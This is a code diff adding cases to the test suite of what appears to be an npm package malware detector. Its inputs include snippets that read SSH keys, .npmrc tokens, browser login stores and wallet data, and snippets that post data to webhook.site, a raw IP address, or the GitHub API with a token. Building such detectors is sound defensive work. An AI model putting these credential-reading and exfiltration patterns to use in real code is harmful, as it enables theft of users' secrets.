@@ -86,6 +86,7 @@ describe('credential-read', () => {
   it('catches literal paths, concatenations, templates, browser and wallet stores and .env reads', () => {
     expect(threats("x();\nconst k = '~/.ssh/id_rsa';")).toEqual(['npm.threat.credential-read@2:11']);
     expect(threats("const k = home + '/.n' + 'pmrc';")).toEqual(['npm.threat.credential-read@1:11']);
+    expect(threats("const k = ['~/.s', 'sh/id_rsa'].join('');")).toEqual(['npm.threat.credential-read@1:11']);
     expect(threats('const k = `${process.env.HOME}/.npmrc`;')).toEqual(['npm.threat.credential-read@1:11']);
     expect(threats("const d = 'Google/Chrome/User Data/Default/Login Data';")).toEqual(['npm.threat.credential-read@1:11']);
     expect(threats("const id = 'nkbihfbeogaeaoehlefnkodbefgpgknn';")).toEqual(['npm.threat.credential-read@1:12']);
@@ -117,7 +118,10 @@ describe('metadata-endpoint and exfiltration', () => {
     expect(threats("post('https://webhook.site/0f3e');")).toEqual(['npm.threat.exfiltration@1:6']);
     expect(threats("post('http://45.9.148.3:8080/c');")).toEqual(['npm.threat.exfiltration@1:6']);
     expect(threats("const u = 'https://api.github.com/user/repos';")).toEqual(['npm.threat.exfiltration@1:11']);
-    expect(threats("post('http://127.0.0.1:3000/'); post('http://192.168.1.10/'); post('https://example.com/');")).toEqual([]);
+    const gh = "https.request({ hostname: 'api.github.com', path: '/user/repos', method: 'POST',\n  headers: { Authorization: `token ${t}` } });";
+    expect(threats(gh)).toEqual(['npm.threat.exfiltration@1:27']);
+    expect(threats("https.request({ hostname: 'api.github.com', path: '/user/repos' });")).toEqual([]);
+        expect(threats("post('http://127.0.0.1:3000/'); post('http://192.168.1.10/'); post('https://example.com/');")).toEqual([]);
     expect(threats("const note = 'toast.fun is a game';")).toEqual([]);
     expect(threats("route('http://123.123.123.123/a'); ping('http://1.1.1.1/'); doc('http://203.0.113.5/');")).toEqual([]);
     POSITIVE_INPUTS.push("post('https://webhook.site/0f3e');", "post('http://45.9.148.3:8080/c');");
